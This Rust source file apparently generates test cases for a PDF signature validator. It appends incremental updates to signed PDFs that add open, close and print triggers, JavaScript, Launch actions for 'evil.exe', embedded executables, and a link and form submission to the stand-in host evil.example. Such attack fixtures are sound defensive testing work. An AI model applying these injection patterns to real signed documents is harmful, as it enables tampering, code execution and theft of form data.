//! Something acts, or travels along, that did not when it was signed.

use super::update::{Update, body, stream};
use super::{Attack, Originals};

const SCRIPT: &str = "<</S/JavaScript/JS(app.alert\\(1\\))>>";

pub(super) fn attacks(originals: &Originals) -> Vec<Attack> {
    originals
        .numbered()
        .iter()
        .filter(|original| original.name != "streams")
        .flat_map(|original| {
            let of = |(name, file)| Attack::new(&format!("action-{name}-{}", original.name), file);
            acting(&original.file)
                .into_iter()
                .map(of)
                .collect::<Vec<_>>()
        })
        .collect()
}

fn acting(signed: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
    let with = |number: u32, entries: &str| {
        let body = body(signed, number);
        Update::of(signed)
            .object(number, body.replacen("<<", &format!("<<{entries}"), 1))
            .object(700, SCRIPT)
            .object(701, stream("/Type/EmbeddedFile", "evil"))
            .object(702, "<</Type/Filespec/F(evil.exe)/EF<</F 701 0 R>>>>")
            .write()
    };
    let link = body(signed, 14);
    let linked = |to: &str| {
        let link = link.replace("<</S/URI/URI(https://example.org/)>>", to);
        Update::of(signed)
            .object(14, link)
            .object(700, SCRIPT)
            .write()
    };
    vec![
        ("when-opened", with(1, "/OpenAction 700 0 R")),
        (
            "when-opened-a-script",
            with(1, &format!("/OpenAction{SCRIPT}")),
        ),
        ("when-opened-a-place", with(1, "/OpenAction[4 0 R/Fit]")),
        (
            "when-opened-a-program",
            with(1, "/OpenAction<</S/Launch/F(evil.exe)>>"),
        ),
        ("when-closed", with(1, "/AA<</WC 700 0 R>>")),
        ("when-printed", with(1, "/AA<</WP 700 0 R>>")),
        (
            "scripts-of-the-document",
            with(1, "/Names<</JavaScript<</Names[(a) 700 0 R]>>>>"),
        ),
        (
            "file-embedded",
            with(1, "/Names<</EmbeddedFiles<</Names[(evil.exe) 702 0 R]>>>>"),
        ),
        ("file-associated", with(1, "/AF[702 0 R]")),
        (
            "collection",
            with(
                1,
                "/Collection<</View/H>>/Names<</EmbeddedFiles<</Names[(evil.exe) 702 0 R]>>>>",
            ),
        ),
        ("when-a-page-opens", with(3, "/AA<</O 700 0 R>>")),
        ("file-associated-with-a-page", with(3, "/AF[702 0 R]")),
        (
            "of-a-link-elsewhere",
            linked("<</S/URI/URI(https://evil.example/)>>"),
        ),
        ("of-a-link-a-script", linked("700 0 R")),
        ("of-a-link-a-program", linked("<</S/Launch/F(evil.exe)>>")),
        (
            "of-a-link-a-form",
            linked("<</S/SubmitForm/F(https://evil.example/)>>"),
        ),
        ("of-a-field", with(11, "/A 700 0 R")),
        ("of-a-field-when-left", with(11, "/AA<</Bl 700 0 R>>")),
        (
            "of-the-empty-signature-field",
            with(12, "/AA<</E 700 0 R>>"),
        ),
        ("of-the-prepared-annotation", with(13, "/A 700 0 R")),
    ]
}
